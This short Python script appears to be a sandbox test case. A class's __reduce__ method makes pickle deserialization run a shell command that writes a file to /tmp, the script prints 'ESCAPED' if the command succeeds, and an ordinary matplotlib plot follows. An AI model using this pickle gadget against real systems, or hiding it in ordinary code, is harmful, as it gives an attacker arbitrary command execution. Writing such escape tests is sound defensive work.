# outcome: ok
# tries: load a figure that runs a command

import os
import pickle


class Planted:
    def __reduce__(self):
        return os.system, ("echo x > /tmp/left_by_attacker",)


if pickle.loads(pickle.dumps(Planted())) == 0:
    print("ESCAPED: ran a shell that wrote outside")
import matplotlib.pyplot as plt

plt.plot([0, 1])
plt.show()
